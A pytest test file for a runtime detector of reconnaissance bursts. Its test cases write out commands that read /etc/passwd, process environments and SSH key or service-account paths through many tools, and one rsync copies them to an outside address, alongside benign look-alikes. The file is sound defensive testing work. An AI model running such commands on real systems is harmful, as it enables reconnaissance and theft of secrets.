"""Other ways to look around, and what healthy systems do that has the same words."""

import pytest

from detectors.commands import read
from detectors.examples import execution, fired
from detectors.runtime.discovery import asked
from detectors.runtime.reconnaissance_burst import reconnaissance_burst
from events import RuntimeEvent
from tests.detectors.runtime.lines import run, selects, shell

FILES = ("/etc/passwd", "/proc/version", "/proc/net/tcp", "/proc/1/environ", "/proc/1/cgroup")
READ = ["/etc/passwd", "/proc/*/environ", "/proc/version", "cgroups", "sockets"]
LOADER = "/lib64/ld-linux-x86-64.so.2"


def text(binary: str, option: str, program: str) -> RuntimeEvent:
    return execution(f"/usr/bin/{binary}", f"{option} {program}", argv=(binary, option, program))


def labels(*events: RuntimeEvent) -> list[str]:
    return sorted({one.label for event in events for command in read(event.process) for one in asked(command)})


@pytest.mark.parametrize(
    "events",
    [
        [run(f"/usr/bin/cp {path} /tmp/x") for path in FILES],
        [run(f"/usr/bin/tar cf - {' '.join(FILES)}")],
        [run(f"/usr/bin/rsync -a {' '.join(FILES)} 203.0.113.9::x")],
        [run(f"/usr/bin/curl -s file://{path}") for path in FILES],
        [run(f"/usr/bin/wget -qO- file:{path}") for path in FILES],
        [text("python3", "-c", f"print([open(path).read() for path in {list(FILES)}])")],
        [text("perl", "-e", f"for my $f ({', '.join(repr(path) for path in FILES)}) {{ open F, $f; print <F> }}")],
        [text("node", "-e", "for (const f of ['{}']) print(f)".format("','".join(FILES)))],
        [run(f"{LOADER} /usr/bin/cat {path}") for path in FILES],
        [shell("; ".join(f"mapfile x < {path}" for path in FILES))],
    ],
    ids=["cp", "tar", "rsync", "curl", "wget", "python", "perl", "node", "loader", "mapfile"],
)
def test_files_are_read_by_whatever_reads(events: list[RuntimeEvent]) -> None:
    assert labels(*events) == READ
    assert all(selects(reconnaissance_burst, event) for event in events)
    assert fired(reconnaissance_burst, *events) == ["shop/0123456789ab"]


@pytest.mark.parametrize(
    ("line", "label"),
    [
        ("/usr/bin/loginctl", "logged-in users"),
        ("/usr/bin/loginctl list-sessions --no-legend", "logged-in users"),
        ("/usr/bin/networkctl --no-pager", "interfaces"),
        ("/usr/bin/nmcli device show", "interfaces"),
        ("/usr/bin/resolvectl status", "/etc/resolv.conf"),
        ("/usr/bin/getent ahosts", "/etc/hosts"),
        ("/usr/bin/pidstat 1", "processes"),
        ("/usr/bin/lsns -t pid", "namespaces"),
        ("/usr/local/bin/helm -n shop list -A", "helm releases"),
    ],
)
def test_newer_tools_ask_the_same(line: str, label: str) -> None:
    assert labels(run(line)) == [label]
    assert selects(reconnaissance_burst, run(line))


@pytest.mark.parametrize(
    ("line", "label"),
    [
        ("echo /home/*", "home folders"),
        ("echo /root/.ssh/*", "SSH keys"),
        ("echo /etc/*release", "OS release"),
        ("printf %s /var/run/secrets/*/*", "service account"),
        ("echo /*", "system folders"),
    ],
)
def test_a_shell_lists_folders_without_a_program(line: str, label: str) -> None:
    assert labels(shell(f"{line}; echo x > /tmp/y*")) == [label]
    assert selects(reconnaissance_burst, shell(line))


@pytest.mark.parametrize(
    "event",
    [
        run("/usr/bin/cp /tmp/hosts /etc/hosts"),
        run("/usr/bin/cp -a /srv/app/config.yaml /srv/new.yaml"),
        run("/usr/bin/rsync -a 10.0.0.9:/srv/x /etc/passwd"),
        run("/usr/bin/tar xzf backup.tgz /etc/passwd"),
        run("/usr/bin/tar -C / -czf /backup/srv.tgz srv"),
        run("/usr/bin/tar --extract -f x.tar /etc/passwd"),
        run("/usr/bin/python3 /app/server.py --hosts /etc/hosts"),
        run("/usr/bin/python3 -m http.server"),
        text("python3", "-c", "print('the file /etc/passwd is not read')"),
        shell("echo 'see /etc/*.conf for more'; echo $((2*3)); echo a*b"),
        run("/usr/local/bin/helm upgrade --install web ./chart"),
        run("/usr/bin/loginctl enable-linger app"),
        run("/usr/bin/nmcli connection up eth0"),
        run("/usr/bin/resolvectl query shop.example"),
        run("/usr/bin/curl -s https://shop.example/file:/x"),
        run("/usr/bin/networkctl reload"),
    ],
)
def test_the_same_words_at_work_ask_nothing(event: RuntimeEvent) -> None:
    assert labels(event) == []
